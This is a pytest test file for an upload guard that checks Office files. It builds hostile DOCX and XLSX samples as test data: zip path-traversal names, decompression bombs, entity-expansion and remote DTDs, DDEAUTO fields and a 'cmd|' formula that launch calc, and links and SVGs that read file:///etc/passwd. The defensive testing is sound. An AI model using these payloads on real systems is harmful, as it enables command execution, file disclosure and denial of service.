"""What the guard lets in and what it refuses, on hostile files made here and on honest ones as Word and Excel writers make them."""

from __future__ import annotations

import io
import random
import re
import string
import struct
import zipfile

import docx
import openpyxl
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.chart import BarChart, Reference
from openpyxl.worksheet.table import Table

from engine import messages
from engine.errors import RefusedFile
from engine.guard import check_office

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
OPC = "http://schemas.openxmlformats.org/package/2006"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"


def saved(document) -> bytes:
    target = io.BytesIO()
    document.save(target)
    return target.getvalue()


WORD = saved(docx.Document())
EXCEL = saved(openpyxl.Workbook())


def packed(base: bytes, parts: dict[str, str | bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """`base` with `parts` put in place of its own or beside them."""
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as old, zipfile.ZipFile(target, "w", method) as new:
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, content in parts.items():
            new.writestr(name, content)
    return target.getvalue()


def part_of(base: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(base)) as opened:
        return opened.read(name).decode("utf-8")


def word(body: str) -> bytes:
    return packed(WORD, {"word/document.xml": f"<w:document {W} {R}><w:body>{body}</w:body></w:document>"})


def sheet(content: str) -> bytes:
    return packed(EXCEL, {"xl/worksheets/sheet1.xml": f"<worksheet {S}>{content}</worksheet>"})


def related(kind: str, target: str, mode: str = 'TargetMode="External"') -> bytes:
    rels = part_of(WORD, "word/_rels/document.xml.rels")
    added = f'<Relationship Id="rIdX" Type="{OFFICE}/{kind}" Target="{target}" {mode}/></Relationships>'
    return packed(WORD, {"word/_rels/document.xml.rels": rels.replace("</Relationships>", added)})


def field(*instructions: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in instructions)
    return f"<w:p>{mark('begin')}{runs}{mark('separate')}<w:r><w:t>x</w:t></w:r>{mark('end')}</w:p>"


def mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def refusal(data: bytes, name: str = "Рахунок.docx") -> tuple[str, str]:
    """The reason and the detail of the refusal, once its sentences are seen to be whole in three languages."""
    with pytest.raises(RefusedFile) as caught:
        check_office(data, name)
    for language in ("uk", "ru", "en"):
        sentence = caught.value.text(language)
        assert name in sentence
        assert not re.search(r"\$[a-z]", sentence)
        assert f"({caught.value.facts.get('detail')})" not in sentence
    return caught.value.facts["reason"], caught.value.facts.get("detail", "")


def as_ole(*streams: str) -> bytes:
    """An OLE file of one sector of directory, as Word 97 and encrypted Office files begin."""
    header = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
    entries = b"".join(stream.encode("utf-16-le").ljust(128, b"\0") for stream in ("Root Entry", *streams))
    return header.ljust(512, b"\0") + entries.ljust(512, b"\0")


def renamed(data: bytes, old: bytes, new: bytes) -> bytes:
    assert len(old) == len(new)
    return data.replace(old, new)


# Honest files


def test_a_new_word_and_a_new_excel_file_are_let_in():
    assert check_office(WORD, "Договір.docx") == ".docx"
    assert check_office(EXCEL, "Акт.xlsx") == ".xlsx"


def test_the_suffix_is_what_the_file_holds_not_what_it_is_called():
    assert check_office(EXCEL, "Акт.docx") == ".xlsx"


def test_a_workbook_with_a_chart_a_table_and_whole_columns_is_let_in():
    book = openpyxl.Workbook()
    for row in [("Товар", "К-сть"), *((f"Кава {n}", n) for n in range(500))]:
        book.active.append(row)
    book.active.add_table(Table(displayName="Lines", ref="A1:B501"))
    book.active["D1"] = '=IF(B2>1,"a|b",SUM(B2:B501)) & "!"'
    book.active.merge_cells("F1:H3")
    book.active.column_dimensions.group("J", "XFD", hidden=True)
    chart = BarChart()
    chart.add_data(Reference(book.active, min_col=2, min_row=1, max_row=501), titles_from_data=True)
    book.active.add_chart(chart, "F5")

    assert check_office(saved(book), "Звіт.xlsx") == ".xlsx"


def test_a_document_with_its_tables_fields_and_links_is_let_in():
    document = docx.Document()
    document.add_table(rows=3, cols=3).cell(1, 1).add_table(2, 2)
    document.part.relate_to("https://example.com/oferta", RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    template = (
        f'<Relationships xmlns="{OPC}/relationships"><Relationship Id="rId1" Type="{OFFICE}/attachedTemplate" '
        'Target="file:///C:/Normal.dotm" TargetMode="External"/></Relationships>'
    )

    written = packed(saved(document), {"word/_rels/settings.xml.rels": template})

    assert check_office(written, "Договір.docx") == ".docx"


@pytest.mark.parametrize(
    "instruction",
    [
        ' HYPERLINK "https://example.com/INCLUDETEXT/link" ',
        ' TOC \\o "1-3" ',
        " PAGE ",
        " MERGEFIELD Link ",
        ' QUOTE "INCLUDEPICTURE" ',
        "",
    ],
)
def test_fields_that_fetch_nothing_are_let_in(instruction):
    nested_result = f"<w:p>{mark('begin')}{mark('separate')}{field(' PAGEREF _Toc1 ')}{mark('end')}</w:p>"
    formula = f"<w:p>{mark('begin')}<w:r><w:instrText>=</w:instrText></w:r>{field(' MERGEFIELD a ')}{mark('end')}</w:p>"

    assert check_office(word(field(instruction) + nested_result + formula), "t.docx") == ".docx"


def test_the_workbook_behind_a_chart_and_a_picture_are_let_in():
    parts = {
        "word/embeddings/Microsoft_Excel_Sheet1.xlsx": EXCEL,
        "word/media/image1.svg": '<svg xmlns="http://www.w3.org/2000/svg"><defs><g id="a"/></defs>'
        '<use href="#a" style="fill:url(#b)"/><image href="data:image/png;base64,AAAA"/></svg>',
    }

    assert check_office(packed(WORD, parts), "t.docx") == ".docx"


def test_a_file_zipped_without_compression_is_let_in():
    assert check_office(packed(WORD, {}, method=zipfile.ZIP_STORED), "t.docx") == ".docx"


# Not what it should be


def test_an_empty_file_is_called_empty():
    assert refusal(b"") == ("empty", "")


@pytest.mark.parametrize(
    "data",
    [
        random.Random(1).randbytes(5000),
        b"{\\rtf1 hello}",
        b"<html></html>",
        packed(packed(WORD, {}), {"[Content_Types].xml": "<Types/>"}),
    ],
    ids=["noise", "rtf", "html", "no types"],
)
def test_what_is_no_office_file_is_called_so(data):
    assert refusal(data) == ("not-office", "")


def test_a_plain_zip_is_no_office_file():
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("readme.txt", "hello")

    assert refusal(target.getvalue()) == ("not-office", "")


def test_the_old_formats_and_a_password_are_told_apart():
    assert refusal(as_ole("WordDocument")) == ("old-format", "")
    assert refusal(as_ole("EncryptionInfo", "EncryptedPackage")) == ("password", "")


def test_macros_are_found_by_type_and_by_part():
    types = part_of(WORD, "[Content_Types].xml")

    assert refusal(packed(WORD, {"[Content_Types].xml": types.replace(WORD_TYPE, MACRO_TYPE)})) == ("macros", "")
    assert refusal(packed(WORD, {"word/vbaProject.bin": b"\xd0\xcf"})) == ("macros", "")


@pytest.mark.parametrize("share", [0.1, 0.5, 0.9, 0.999])
def test_a_truncated_file_is_damaged(share):
    assert refusal(WORD[: int(len(WORD) * share)]) == ("corrupt", "archive")


def test_a_part_that_does_not_unpack_is_named():
    with zipfile.ZipFile(io.BytesIO(WORD)) as archive:
        offset = archive.getinfo("word/document.xml").header_offset
    broken = bytearray(WORD)
    broken[offset + 60 : offset + 90] = bytes(30)

    with pytest.raises(RefusedFile) as caught:
        check_office(bytes(broken), "t.docx")

    assert caught.value.facts == {
        "reason": "corrupt",
        "detail": "part",
        "part": "word/document.xml",
        "file": "t.docx",
    }


def test_broken_xml_is_named_with_its_line():
    with pytest.raises(RefusedFile) as caught:
        check_office(packed(WORD, {"word/document.xml": "<a>\n<b>\n</a>"}), "t.docx")

    assert "word/document.xml" in caught.value.text("uk")
    assert caught.value.facts["line"] == 3


def test_a_missing_main_part_is_damage():
    types = part_of(WORD, "[Content_Types].xml").replace("/word/document.xml", "/word/gone.xml")
    rels = part_of(WORD, "_rels/.rels").replace("word/document.xml", "word/gone.xml")

    assert refusal(packed(WORD, {"[Content_Types].xml": types, "_rels/.rels": rels})) == ("corrupt", "missing-part")


@settings(max_examples=150, deadline=None)
@given(st.data())
def test_a_mutated_file_is_let_in_or_refused_and_never_breaks_the_guard(data):
    mutated = bytearray(data.draw(st.sampled_from([WORD, EXCEL])))
    for _ in range(data.draw(st.integers(1, 20))):
        mutated[data.draw(st.integers(0, len(mutated) - 1))] = data.draw(st.integers(0, 255))

    try:
        answer = check_office(bytes(mutated), "t.docx")
    except RefusedFile as refused:
        answer = refused.text("uk")

    assert answer in (".docx", ".xlsx") or answer.startswith("Файл t.docx не прийнято: ")


# The archive


@pytest.mark.parametrize("name", ["../../evil.xml", "word/../../x", "/etc/passwd", "C:/x", "word\\x.xml", "a/.."])
def test_a_part_that_would_travel_out_is_refused(name):
    assert refusal(packed(WORD, {name: "x"})) == ("unsafe", "part-name")


def test_a_name_that_would_move_the_terminal_is_refused_and_not_printed():
    data = renamed(packed(WORD, {"word/AAAA": "x"}), b"word/AAAA", b"wo\x1b[2J\x00rd")

    with pytest.raises(RefusedFile) as caught:
        check_office(data, "t.docx")

    assert caught.value.facts["detail"] == "part-name"
    assert caught.value.text("uk").isprintable()


def test_a_part_that_is_there_twice_is_refused_in_any_letter_case():
    again = packed(WORD, {"word/Document.xml": "<a/>"})
    twice = io.BytesIO(WORD)
    with zipfile.ZipFile(twice, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr("word/document.xml", "<a/>")

    assert refusal(again) == ("unsafe", "duplicate")
    assert refusal(twice.getvalue()) == ("unsafe", "duplicate")


def test_an_encrypted_part_is_refused():
    flagged = bytearray(WORD)
    entry = WORD.index(b"PK\x01\x02")
    flagged[entry + 8] |= 1

    assert refusal(bytes(flagged)) == ("unsafe", "encrypted")


def test_two_names_for_one_part_are_damage():
    """A reader that goes by the local header would open another file than the one that was checked."""
    start = WORD.index(b"word/document.xml")
    other = WORD[:start] + b"word/dokument.xml" + WORD[start + 17 :]

    assert refusal(other) == ("corrupt", "part")


def test_a_size_that_lies_is_found_by_unpacking():
    data = packed(WORD, {"x.bin": bytes(500_000)})
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        honest = archive.getinfo("x.bin")
    lying = data.replace(struct.pack("<II", honest.compress_size, 500_000), struct.pack("<II", honest.compress_size, 10))

    assert refusal(lying) == ("corrupt", "part")


def test_a_bomb_is_stopped_while_it_unpacks():
    assert refusal(packed(WORD, {"word/media/image1.bin": bytes(50 * 2**20)})) == ("too-large", "ratio")


def test_parts_are_limited_one_by_one_and_together():
    noise = random.Random(2).randbytes(2**18) * 4
    part = noise + bytes(150 * len(noise) // 4)

    assert refusal(packed(WORD, {"x.bin": noise * 65}, method=zipfile.ZIP_STORED)) == ("too-large", "part-size")
    together = packed(WORD, {f"{n}.bin": part for n in range(6)})
    assert refusal(together) == ("too-large", "total-size")


@pytest.mark.parametrize("count", [2_100, 30_000])
def test_too_many_parts_are_not_even_listed(count):
    target = io.BytesIO(WORD)
    with zipfile.ZipFile(target, "a") as archive:
        for n in range(count):
            archive.writestr(f"word/media/{n}", b"")

    assert refusal(target.getvalue()) == ("too-large", "entries")


@pytest.mark.parametrize("name", ["word/media/image1.png", "xl/embeddings/deep/a.xlsx", "word/embeddings/a.zip"])
def test_an_archive_within_is_refused(name):
    assert refusal(packed(WORD, {name: EXCEL})) == ("unsafe", "zip-within")
    assert refusal(packed(WORD, {name: b"\x1f\x8b\x08"})) == ("unsafe", "zip-within")


# Markup


LAUGHS = '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;">]><a>&c;</a>'
REMOTE = '<!DOCTYPE a SYSTEM "http://example.com/a.dtd"><a/>'


@pytest.mark.parametrize("name", ["word/styles.xml", "customXml/item1.xml", "word/media/image1.svg", "word/media/image1.png"])
@pytest.mark.parametrize("text", [LAUGHS, REMOTE, LAUGHS.encode("utf-16"), "\ufeff " + REMOTE])
def test_no_part_may_declare_a_doctype(name, text):
    assert refusal(packed(WORD, {name: text}))[1] in ("dtd", "xml")
    assert refusal(packed(WORD, {name: text.lstrip("\ufeff ") if isinstance(text, str) else text})) == ("unsafe", "dtd")


def test_depth_is_limited():
    assert check_office(packed(WORD, {"x.xml": "<a>" * 200 + "</a>" * 200}), "t.docx") == ".docx"
    assert refusal(packed(WORD, {"x.xml": "<a>" * 201 + "</a>" * 201})) == ("too-large", "depth")
    assert refusal(packed(WORD, {"x.xml": "<a>" * 100_000})) == ("too-large", "depth")


def test_one_endless_value_is_refused():
    noise = "".join(random.Random(3).choices(string.ascii_letters, k=400_000))

    assert refusal(packed(WORD, {"x.xml": f'<a b="{noise}"/>'})) == ("too-large", "token")
    assert check_office(packed(WORD, {"x.xml": f"<a>{noise}</a>"}), "t.docx") == ".docx"


def test_markup_and_its_elements_are_limited():
    noise = "".join(random.Random(4).choices(string.ascii_letters, k=200_000))
    text = f"<a>{noise * 200}</a>"
    elements = "<a>" + "".join(f'<b c="{noise[n : n + 40]}"/>' for n in range(150_000)) + "</a>"

    heavy = packed(WORD, {"x.xml": text, "y.xml": text}, method=zipfile.ZIP_STORED)
    many = packed(WORD, {f"{n}.xml": elements for n in range(3)}, method=zipfile.ZIP_STORED)
    assert refusal(heavy) == ("too-large", "markup")
    assert refusal(many) == ("too-large", "nodes")


def test_a_style_sheet_instruction_is_refused():
    text = '<?xml-stylesheet href="file:///etc/passwd"?><a/>'

    assert refusal(packed(WORD, {"word/x.xml": text})) == ("unsafe", "stylesheet")


# Word


def test_tables_within_tables_end_at_twenty():
    def nested(depth: int) -> bytes:
        return word("<w:tbl><w:tr><w:tc>" * depth + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * depth)

    assert check_office(nested(20), "t.docx") == ".docx"
    assert refusal(nested(21)) == ("too-large", "tables")


def test_three_hundred_thousand_paragraphs_are_refused():
    assert refusal(word("<w:p/>" * 300_000)) == ("too-large", "paragraphs")


@pytest.mark.parametrize("target", ["http://example.com/a.png", "file:///etc/passwd", "\\\\host\\share\\a.png", "a.png"])
@pytest.mark.parametrize("kind", ["image", "oleObject", "subDocument", "frame", "mailMergeSource"])
def test_a_link_outside_is_refused_whatever_it_brings_in(kind, target):
    assert refusal(related(kind, target)) == ("unsafe", "external")


@pytest.mark.parametrize("target", ["file:///etc/passwd", "HTTP://example.com/a.png", "//host/a", "\\\\host\\a"])
def test_a_link_that_does_not_say_it_is_outside_is_refused(target):
    assert refusal(related("image", target, "")) == ("unsafe", "external")
    assert refusal(related("hyperlink", target, "")) == ("unsafe", "external")


def test_a_picture_linked_through_a_hyperlink_is_refused():
    blip = '<a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="rIdX"/>'
    vml = '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="file:///etc/passwd"/>'
    ole = '<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" r:id="rIdX"/>'

    for body in (blip, vml, ole):
        assert refusal(word(body)) == ("unsafe", "linked")


def test_a_chunk_of_another_document_is_refused():
    assert refusal(word('<w:altChunk r:id="rId1"/>')) == ("unsafe", "chunk")
    assert refusal(word('<w:subDoc r:id="rId1"/>')) == ("unsafe", "chunk")
    assert refusal(related("aFChunk", "afchunk.htm", "")) == ("unsafe", "chunk")


NESTED_NAME = f"<w:p>{mark('begin')}{field(' QUOTE INCLUDETEXT ')}<w:r><w:instrText> x</w:instrText></w:r>{mark('end')}</w:p>"
INNER = f"<w:p>{mark('begin')}<w:r><w:instrText>IF 1=1 </w:instrText></w:r>{field(' LINK Excel.Sheet x ')}{mark('end')}</w:p>"


@pytest.mark.parametrize(
    "body",
    [
        field(' INCLUDETEXT "http://example.com/a.docx" '),
        field(" INCL", "UDEPIC", 'TURE "file:///etc/passwd"'),
        field("\n  \u00a0includepicture", '"x"'),
        field(" " * 5000, 'DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'),
        field(' LINK Excel.Sheet.12 "x.xlsx" '),
        '<w:fldSimple w:instr=" DDE cmd x "/>',
        mark("begin") + "<w:r><w:instrText>INCLUDETEXT x</w:instrText></w:r>",
        field(" PAGE ").replace("instrText", "delInstrText").replace("PAGE", "RD x"),
        INNER,
        NESTED_NAME,
    ],
    ids=["text", "split", "spaces", "far", "link", "simple", "open", "deleted", "inner", "computed"],
)
def test_a_field_that_fetches_is_refused_however_it_is_cut(body):
    assert refusal(word(body)) == ("unsafe", "field")


# Excel


@pytest.mark.parametrize("cell", ["XFD1048576", "A200001", "ALM1"])
def test_a_stray_cell_far_away_is_refused_and_named(cell):
    with pytest.raises(RefusedFile) as caught:
        check_office(sheet(f'<sheetData><row><c r="{cell}"/></row></sheetData>'), "t.xlsx")

    assert caught.value.facts["detail"] == "cell"
    assert cell in caught.value.text("uk")


def test_two_cells_that_span_a_huge_sheet_are_refused():
    corner = '<sheetData><row r="1"><c r="ALL1"/></row><row r="150000"><c/></row></sheetData>'

    assert refusal(sheet(corner)) == ("too-large", "cells")


@pytest.mark.parametrize(
    "content",
    [
        '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>',
        '<mergeCells><mergeCell ref="A:C"/></mergeCells>',
        "<mergeCells>" + '<mergeCell ref="A1:Z1000"/>' * 4 + "</mergeCells>",
        '<hyperlinks><hyperlink ref="$A$1:$XFD$1048576" location="A1"/></hyperlinks>',
        '<sheetData><row><c><f t="array" ref="A1:XFD1048576">1</f></c></row></sheetData>',
        '<table ref="A1:XFD1048576"/>',
    ],
    ids=["merge", "columns", "many", "hyperlink", "array", "table"],
)
def test_a_range_that_a_reader_would_spread_out_is_refused(content):
    assert refusal(sheet(content)) == ("too-large", "area")


@pytest.mark.parametrize(
    "formula",
    [
        "WEBSERVICE(&quot;http://example.com/&quot;&amp;A1)",
        "_xlfn.WEBSERVICE (A1)",
        "1+image(A1)",
        "cmd|'/c calc'!A1",
        "DDE(&quot;soffice&quot;;&quot;x&quot;;&quot;y&quot;)",
    ],
)
def test_a_formula_that_fetches_is_refused(formula):
    in_cell = sheet(f"<sheetData><row><c><f>{formula}</f></c></row></sheetData>")
    in_name = packed(EXCEL, {"xl/x.xml": f'<definedName name="a" {S}>{formula}</definedName>'})

    assert refusal(in_cell) == ("unsafe", "formula")
    assert refusal(in_name) == ("unsafe", "formula")


@pytest.mark.parametrize("element", ["ddeLink", "oleLink", "webPr", "textPr"])
def test_a_connection_to_data_outside_is_refused(element):
    assert refusal(packed(EXCEL, {"xl/x.xml": f"<a {S}><{element}/></a>"})) == ("unsafe", "foreign-data")


@pytest.mark.parametrize("reference", ["", "11", "A", "ЖЖ1", "A1B", "A99999999999999999999"])
def test_a_reference_that_is_none_is_damage_or_nothing(reference):
    with pytest.raises(RefusedFile) as caught:
        check_office(sheet(f'<mergeCells><mergeCell ref="{reference}Ж"/></mergeCells>'), "t.xlsx")

    assert caught.value.facts["detail"] == "xml"


# SVG


@pytest.mark.parametrize(
    "inside",
    [
        '<image href="file:///etc/passwd"/>',
        '<image xmlns:x="http://www.w3.org/1999/xlink" x:href="http://example.com/a.png"/>',
        '<image href="data:image/svg+xml;base64,PHN2Zy8+"/>',
        "<style>@import 'http://example.com/a.css';</style>",
        "<style>a{fill:url( http://example.com/a)}</style>",
        '<rect style="fill:url(file:///a#b)"/>',
        '<g xml:base="http://example.com/"/>',
    ],
)
@pytest.mark.parametrize("name", ["word/media/image1.svg", "word/media/image1.png"])
def test_an_svg_that_links_out_is_refused_under_any_name(name, inside):
    text = f'<svg xmlns="http://www.w3.org/2000/svg">{inside}</svg>'

    assert refusal(packed(WORD, {name: text})) == ("unsafe", "svg-link")


def test_the_sentences_of_the_guard_are_there_in_three_languages():
    uk, ru, en = ({key for key in messages.catalogue(language) if key.startswith("guard.")} for language in ("uk", "ru", "en"))

    assert uk == ru == en
    assert len(uk) > 25
